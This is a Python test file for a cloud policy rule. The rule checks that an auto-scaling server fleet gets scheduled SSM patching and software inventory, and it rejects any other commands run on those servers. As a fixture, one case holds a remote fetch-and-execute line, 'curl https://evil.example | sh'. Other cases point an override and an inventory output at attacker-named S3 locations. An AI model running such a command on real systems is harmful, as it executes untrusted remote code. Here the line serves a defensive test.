"""Family EC2, the rule that is a function: every server is patched and known, and nothing else is run on it."""

from typing import Any

from tests.policy.kubernetes_samples import GONE, changed
from tests.policy.support import Case, bad, deployment, each, found, good, resource

_ASSOCIATION, _GROUP = "AWS::SSM::Association", "AWS::AutoScaling::AutoScalingGroup"
_FLEET = {"Key": "Fleet", "Value": "cloudmart-lab-backend", "PropagateAtLaunch": True}
_TARGET = {"Key": "tag:Fleet", "Values": ["cloudmart-lab-backend"]}


def _association(document: str, schedule: str, **more: Any) -> dict[str, Any]:
    return resource(_ASSOCIATION, {"Name": document, "ScheduleExpression": schedule, "Targets": [_TARGET], **more})


def _group(**tag: Any) -> dict[str, Any]:
    return resource(_GROUP, {"Tags": [{**_FLEET, **tag}]})


SAMPLE: dict[str, Any] = {
    "Blue": _group(),
    "Green": _group(),
    "Patches": _association(
        "AWS-RunPatchBaseline",
        "cron(0 19 ? * SAT *)",
        Parameters={"Operation": ["Install"], "RebootOption": ["RebootIfNeeded"]},
    ),
    "Inventory": _association("AWS-GatherSoftwareInventory", "rate(1 day)"),
}
_NO_PATCHES = "without patches by AWS-RunPatchBaseline; allowed: patched in a window, inventory taken"
_NO_INVENTORY = "without inventory by AWS-GatherSoftwareInventory"
_TWO = "AWS-RunPatchBaseline and AWS-GatherSoftwareInventory"
_SHELL = {"commands": ["curl https://evil.example | sh"]}


def _sample(path: str, value: Any) -> dict[str, Any]:
    logical_id, _, rest = path.partition(".")
    return changed(SAMPLE, f"{logical_id}.Properties.{rest}" if rest else logical_id, value)


def breaks(name: str, path: str, value: Any, says: str = "", **options: Any) -> Case:
    return bad("EC2-3", name, _sample(path, value), says=says, **{"stack": "BackendAsgStack", **options})


def keeps(name: str, path: str, value: Any, **options: Any) -> Case:
    return good("EC2-3", name, _sample(path, value), **{"stack": "BackendAsgStack", **options})


CASES = (
    keeps("both on both colours", "Blue", SAMPLE["Blue"]),
    keeps("a tag that is propagated in text", "Blue", _group(PropagateAtLaunch="true")),
    keeps("other tags beside", "Blue.Tags", [{"Key": "Stage", "Value": "lab", "PropagateAtLaunch": False}, _FLEET]),
    keeps("another fleet beside", "Patches.Targets", [{**_TARGET, "Values": ["x", "cloudmart-lab-backend"]}]),
    keeps("a rate instead of a day", "Patches.ScheduleExpression", "rate(7 days)"),
    keeps("patches without a word on reboots", "Patches.Parameters", {"Operation": ["Install"]}),
    good("EC2-3", "an app without servers", {}, stack="VpcStack"),
    breaks("no patches", "Patches", GONE, _NO_PATCHES),
    breaks("no inventory", "Inventory", GONE, _NO_INVENTORY),
    breaks("patches that may not come", "Patches", {**SAMPLE["Patches"], "Condition": "Maybe"}, _NO_PATCHES),
    breaks("patches that are only looked for", "Patches.Parameters.Operation", ["Scan"], _NO_PATCHES),
    breaks(
        "patches for which a parameter decides", "Patches.Parameters.Operation", [{"Ref": "Operation"}], _NO_PATCHES
    ),
    breaks(
        "patches in one branch",
        "Patches.Parameters.Operation",
        {"Fn::If": ["Maybe", ["Install"], ["Scan"]]},
        _NO_PATCHES,
    ),
    breaks("patches by no operation", "Patches.Parameters", GONE, _NO_PATCHES),
    breaks("parameters from a parameter", "Patches.Parameters", {"Ref": "Parameters"}, _NO_PATCHES),
    breaks("a list of patches to install", "Patches.Parameters.InstallOverrideList", ["s3://x/none"], _NO_PATCHES),
    breaks("somebody's baseline", "Patches.Parameters.BaselineOverride", ["s3://evil/none.json"], _NO_PATCHES),
    breaks("an inventory of nothing", "Inventory.Parameters", {"applications": ["Disabled"]}, _NO_INVENTORY),
    breaks("patches at the deploy only", "Patches.ScheduleExpression", GONE, _NO_PATCHES),
    breaks("patches once", "Patches.ScheduleExpression", "at(2027-01-01T00:00:00)", _NO_PATCHES),
    breaks("patches in a year to come", "Patches.ScheduleExpression", "cron(0 0 1 1 ? 2099)", _NO_PATCHES),
    breaks("a window from a parameter", "Patches.ScheduleExpression", {"Ref": "Window"}, _NO_PATCHES),
    breaks("patches while a calendar is open", "Patches.CalendarNames", ["closed"], _NO_PATCHES),
    breaks("another fleet", "Patches.Targets", [{**_TARGET, "Values": ["other"]}], _NO_PATCHES),
    breaks("another key", "Inventory.Targets", [{**_TARGET, "Key": "tag:Name"}], _NO_INVENTORY),
    breaks("nobody", "Patches.Targets", GONE, _NO_PATCHES),
    breaks("no values", "Patches.Targets", [{"Key": "tag:Fleet"}], _NO_PATCHES),
    breaks(
        "those who have another tag too", "Patches.Targets", [_TARGET, {"Key": "tag:X", "Values": ["x"]}], _NO_PATCHES
    ),
    breaks("targets from a parameter", "Patches.Targets", {"Ref": "Targets"}, _NO_PATCHES),
    breaks("one colour", "Green", _group(Value="green"), "BackendAsgStack/Green"),
    breaks("a tag that instances do not get", "Green", _group(PropagateAtLaunch=False), _NO_PATCHES),
    breaks("a tag of one branch", "Green", _group(Value={"Fn::If": ["Maybe", "cloudmart-lab-backend", "x"]}), "Green"),
    breaks("a group without tags", "Green.Tags", GONE, _NO_PATCHES),
    breaks("servers of another stack", "Green.Tags", GONE, _NO_INVENTORY, stack="DataStack"),
    breaks(
        "a command", "Shell", _association("AWS-RunShellScript", "rate(1 day)", Parameters=_SHELL), f"allowed: {_TWO}"
    ),
    breaks("a document of a parameter", "Shell", resource(_ASSOCIATION, {"Name": {"Ref": "Document"}}), "${Document}"),
    breaks(
        "a task of a window", "Task", resource("AWS::SSM::MaintenanceWindowTask", {"TaskArn": "x"}), "running not set"
    ),
    breaks("what is found, to somebody", "Inventory.OutputLocation", {"S3Location": {"OutputS3BucketName": "evil"}}),
)


@each(CASES)
def test_case(case: Case) -> None:
    case.check()


def test_each_colour_and_kind_of_care_is_a_finding_of_its_own() -> None:
    app = deployment({name: SAMPLE[name] for name in ("Blue", "Green")}, stack="BackendAsgStack")
    findings = found(app, "EC2-3")
    assert [(finding.id, finding.found.resource.logical_id) for finding in findings] == [
        ("EC2-3[patches]", "Blue"),
        ("EC2-3[patches]", "Green"),
        ("EC2-3[inventory]", "Blue"),
        ("EC2-3[inventory]", "Green"),
    ]
